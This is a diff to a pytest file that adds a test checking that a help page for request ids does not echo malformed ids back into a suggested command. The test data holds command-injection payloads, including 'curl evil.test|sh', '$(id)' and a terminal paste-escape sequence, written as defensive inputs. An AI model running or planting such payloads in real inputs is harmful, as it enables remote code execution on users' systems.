@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 from pathlib import Path
 
 import pytest
@@ -204,3 +205,14 @@ async def test_a_stranger_is_told_how_to_look_it_up(world: World) -> None:
     assert 'href="/help/sign-in?return_to=/help/requests/req_any"' in page
     twin = await world.get("/help/requests/req_any.json", authorization="none")
     assert (twin.status, twin.code) == (401, "api_key_missing")
+
+
+@pytest.mark.parametrize(
+    "asked", ["req_1;curl evil.test|sh", "$(id)", "`id`", "req_1\x1b[201~\rid", "x" * 101, "req_é"]
+)
+async def test_no_command_repeats_what_is_no_id(world: World, asked: str) -> None:
+    for authorization in ("none", f"Bearer {world.account.secret_test}"):
+        page = (await world.get(f"/help/requests/{asked}", authorization=authorization)).body.decode()
+        assert "finsecure explain req_…" in page
+        assert html.escape(asked) not in page
+        assert asked not in page
